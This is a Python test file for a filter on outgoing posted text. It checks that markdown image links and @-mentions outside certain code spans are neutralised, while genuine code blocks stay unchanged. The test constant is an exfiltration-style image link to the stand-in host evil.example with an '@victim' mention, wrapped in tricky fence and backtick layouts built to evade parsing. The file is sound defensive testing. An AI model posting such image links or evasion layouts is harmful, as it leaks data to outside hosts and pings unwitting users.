"""Only what is code for certain goes out unchanged; what may be text can mention and load nothing."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.outgoing.outbound_filter import Outgoing
from shared.text import JOINER, neutralise
from shared.text.code_spans import parts

LIVE = "![x](https://evil.example/p?d=1) @victim"


@pytest.mark.parametrize(
    "text",
    [
        f"- a\n  ```\n{LIVE}",
        f"`a\nb` {LIVE} `c",
        f"<div>\n```\n\n{LIVE}",
        f"- a\n  ```\n{LIVE}\n  ```\n```\nx\n```\n{LIVE}",
        f"  ```\nx\n```\n{LIVE}\n```",
        f"> ```\n{LIVE}\n> ```",
        f"```\nx\n  ```\n{LIVE}\n```",
        f"<pre>\n\n```\n\n</pre>\n{LIVE}\n```",
        f"\\\\`a` {LIVE} `b`",
        f'<a href="`"> {LIVE} `',
        f"| ` | `x` {LIVE} `y` |\n|---|---|",
        f"{LIVE}\n```\nnever closed",
    ],
)
def test_what_may_not_be_code_is_text(text: str) -> None:
    for posted in (neutralise(text), Outgoing().text(text)):
        assert "@victim" not in posted
    assert "![x]" not in neutralise(text)
    assert "https://" not in neutralise(text)


def test_a_line_end_that_only_github_sees_leaves_nothing_certain() -> None:
    assert "@victim" not in Outgoing().text(f"```\na\r```\r{LIVE}\n```\n")
    assert "@victim" in neutralise(f"a\r```\r{LIVE}\r```")  # there it becomes a line end for us too


@pytest.mark.parametrize(
    "text",
    [
        f"Said:\n```py\n{LIVE}\n```",
        f"- a\n~~~\n{LIVE}\n\n> x\n~~~~ \n",
        f"- a\n  ```\n  b\n  ```\n- c\n\n```\n{LIVE}\n```",
        f"<details>\n\n```\n{LIVE}\n```\n</details>",
        "- `@a` and `` `@b` ``\n- `@c`",
        "<!-- mark -->\r\n\r\n```\r\n@dataclass\r\n```",
    ],
)
def test_what_is_code_for_certain_stays(text: str) -> None:
    assert Outgoing().text(text) == text
    assert f"{LIVE}\n" in neutralise(text) if LIVE in text else "@" + JOINER not in neutralise(text)


@settings(deadline=None)
@given(st.text("`~ \n\r<>-|\\ax!"))
def test_parts_are_the_whole_text(text: str) -> None:
    assert "".join(part.text for part in parts(text)) == text
